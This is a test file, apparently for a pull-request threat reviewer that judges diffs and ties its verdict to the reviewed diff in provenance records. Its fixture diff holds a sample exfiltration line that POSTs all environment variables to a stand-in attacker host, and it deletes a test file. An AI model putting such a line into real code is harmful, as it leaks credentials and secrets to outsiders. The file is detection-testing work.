// The threat review bound into the evidence: report.json (schema), provenance.json (the verdict
// bound to the diff it judged, checked by verify), and the review (inline where the line is in the
// pull request's diff, else in the body; escaped like all review text).
import { createHash } from 'node:crypto'
import * as fs from 'node:fs'
import * as os from 'node:os'
import * as path from 'node:path'
import { writeProvenance } from '../../src/report/provenance.js'
import { verifyProvenance } from '../../src/report/provenance-verify.js'
import { writeOutputs } from '../../src/report/output.js'
import { validateReport } from '../../src/report/schema.js'
import { renderComment } from '../../src/report/comment.js'
import { placeThreats } from '../../src/github/review/review-comments.js'
import { recheckReview, reviewPatch } from '../../src/threat-review/review.js'
import type { Report } from '../../src/report/report.js'
import { sampleReport } from '../report/sample.js'

const sha = (b: string | Buffer): string => createHash('sha256').update(b).digest('hex')

const PATCH = [
  'diff --git a/src/app.js b/src/app.js',
  'index 1111111..2222222 100644',
  '--- a/src/app.js',
  '+++ b/src/app.js',
  '@@ -1,2 +1,4 @@',
  ' const x = 1',
  '+const all = process.env',
  '+fetch("https://collect.evil-cdn.xyz/@octocat/<script>", { method: "POST", body: JSON.stringify(all) })',
  ' module.exports = x',
  'diff --git a/__tests__/app.test.js b/__tests__/app.test.js',
  'deleted file mode 100644',
  '--- a/__tests__/app.test.js',
  '+++ /dev/null',
  '@@ -1 +0,0 @@',
  '-expect(x).toBe(1)',
  ''
].join('\n')

async function reportWithReview(): Promise<Report> {
  const report = sampleReport()
  report.diff.sha256 = sha(PATCH)
  report.threatReview = await reviewPatch(PATCH, { diffSha256: sha(PATCH), secrets: [] })
  return report
}

describe('report.json', () => {
  it('validates against the schema with a threat review, and refuses a bad one', async () => {
    const report = await reportWithReview()
    expect(report.threatReview?.verdict).toBe('malicious')
    expect(validateReport(JSON.parse(JSON.stringify(report)))).toEqual({ valid: true, errors: [] })
    const bad = JSON.parse(JSON.stringify(report)) as { threatReview: { verdict: string } }
    bad.threatReview.verdict = 'fine'
    expect(validateReport(bad).valid).toBe(false)
  })
})

describe('provenance.json', () => {
  let root: string
  let dir: string
  beforeEach(async () => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-threat-'))
    dir = path.join(root, 'out')
    fs.mkdirSync(path.join(dir, 'logs'), { recursive: true })
    fs.writeFileSync(path.join(dir, 'diff.patch'), PATCH)
    await writeOutputs(dir, await reportWithReview())
    await writeProvenance(dir)
  })
  afterEach(() => fs.rmSync(root, { recursive: true, force: true }))

  const statement = (): { predicate: { threatReview: Record<string, unknown> } } =>
    JSON.parse(fs.readFileSync(path.join(dir, 'provenance.json'), 'utf8'))
  const edit = (file: string, change: (doc: Record<string, unknown>) => void): void => {
    const p = path.join(dir, file)
    const doc = JSON.parse(fs.readFileSync(p, 'utf8')) as Record<string, unknown>
    change(doc)
    fs.writeFileSync(p, JSON.stringify(doc))
  }

  it('binds the verdict and the diff it judged, and verifies', () => {
    expect(statement().predicate.threatReview).toEqual({
      mode: 'rules',
      verdict: 'malicious',
      diffSha256: sha(PATCH),
      findings: expect.any(Number)
    })
    expect(verifyProvenance(dir)).toMatchObject({ ok: true, problems: [] })
  })

  it('a verdict edited in the statement does not verify', () => {
    edit('provenance.json', (s) => {
      ;(s.predicate as { threatReview: { verdict: string } }).threatReview.verdict = 'clean'
    })
    expect(verifyProvenance(dir).problems).toEqual([
      'predicate.threatReview.verdict: differs from report.json'
    ])
  })

  it('a verdict for another diff does not verify', () => {
    edit('provenance.json', (s) => {
      ;(s.predicate as { threatReview: { diffSha256: string } }).threatReview.diffSha256 =
        '0'.repeat(64)
    })
    expect(verifyProvenance(dir).problems).toContain(
      'predicate.threatReview: its verdict is for another diff than the subject (diff.patch)'
    )
  })

  it('a statement with its threat review removed does not verify', () => {
    edit('provenance.json', (s) => {
      ;(s.predicate as { threatReview: unknown }).threatReview = null
    })
    expect(verifyProvenance(dir).ok).toBe(false)
  })
})

describe('the review', () => {
  it('comment.md says the verdict under the gate and lists each finding, escaped', async () => {
    const report = await reportWithReview()
    const body = renderComment(report, PATCH)
    expect(body).toMatch(/^\*\*Threat review:\*\* 🛑 malicious — \d+ finding\(s\), \d+ high/m)
    expect(body).toContain('### Threat review')
    expect(body).toMatch(
      /<code>src\/app\.js<\/code> line 3: \*\*🛑 high\*\* <code>outbound-endpoint\/exfiltration<\/code>/
    )
    expect(body).toMatch(/app\.test\.js<\/code> \(base\): .*test-deleted/)
    // The matched text is shown, never live: no mention, no tag, no link (the diff itself is
    // further down, in a fenced block).
    const section = body.slice(
      body.indexOf('### Threat review'),
      body.indexOf('\n### ', body.indexOf('### Threat review') + 1)
    )
    expect(section).toContain('octocat')
    expect(section).not.toMatch(/@octocat/)
    expect(section).not.toContain('<script>')
    expect(section).not.toContain('https://collect')
  })

  it('a clean verdict is one line and no section', async () => {
    const report = sampleReport()
    report.threatReview = await reviewPatch('', { diffSha256: null, secrets: [] })
    const body = renderComment(report, '')
    expect(body).toMatch(/^\*\*Threat review:\*\* ✅ clean/m)
    expect(body).not.toContain('### Threat review')
  })

  it("places a finding on its line when the line is in the pull request's diff, else in the body", async () => {
    const report = await reportWithReview()
    const threats = report.threatReview?.findings ?? []
    const files = [
      {
        filename: 'src/app.js',
        patch:
          '@@ -1,2 +1,4 @@\n const x = 1\n+const all = process.env\n+fetch(x)\n module.exports = x'
      },
      { filename: '__tests__/app.test.js', patch: '@@ -1 +0,0 @@\n-expect(x).toBe(1)' }
    ]
    const placed = placeThreats(threats, files)
    const onLine3 = placed.comments.filter((c) => c.path === 'src/app.js' && c.line === 3)
    expect(onLine3.length).toBeGreaterThan(0)
    expect(onLine3[0].side).toBe('RIGHT')
    expect(onLine3[0].body).toMatch(
      /^🛡️ \*\*Threat review\*\* \(Agent Airlock's rules, not the agent\)/
    )
    const deleted = threats.findIndex((f) => f.rule === 'test-deleted')
    expect(placed.unanchored.get(deleted)).toBe('about the file as a whole')
    // Not in the pull request's diff (another head): in the body, with why.
    const elsewhere = placeThreats(threats, [])
    expect(elsewhere.comments).toEqual([])
    expect(elsewhere.unanchored.size).toBe(threats.length)
    const body = renderComment(report, PATCH)
    const withInline = renderComment(report, PATCH)
    expect(withInline).toBe(body)
  })
})

describe('the publisher reads the diff again', () => {
  const facts = { diffSha256: sha(PATCH), secrets: [], unread: 0 }

  it('a report edited to say clean does not hide what the diff holds', async () => {
    const real = await reviewPatch(PATCH, { diffSha256: sha(PATCH), secrets: [] })
    const edited = { ...real, verdict: 'clean' as const, findings: [], total: 0, classes: {} }
    const shown = await recheckReview(edited, Buffer.from(PATCH), facts)
    expect(shown?.verdict).toBe('malicious')
    expect(shown?.notes[0]).toBe(
      "report.json says clean; this verdict is the publisher's own reading of diff.patch"
    )
    const stripped = await recheckReview(undefined, Buffer.from(PATCH), facts)
    expect(stripped?.notes[0]).toMatch(/^report.json has no threat review/)
  })

  it("keeps the report's own review when the reading finds nothing stronger", async () => {
    const real = await reviewPatch(PATCH, { diffSha256: sha(PATCH), secrets: [] })
    expect(await recheckReview(real, Buffer.from(PATCH), facts)).toBe(real)
    expect(await recheckReview(real, null, facts)).toBe(real)
    expect(await recheckReview(undefined, Buffer.from(''), facts)).toBeUndefined()
  })
})
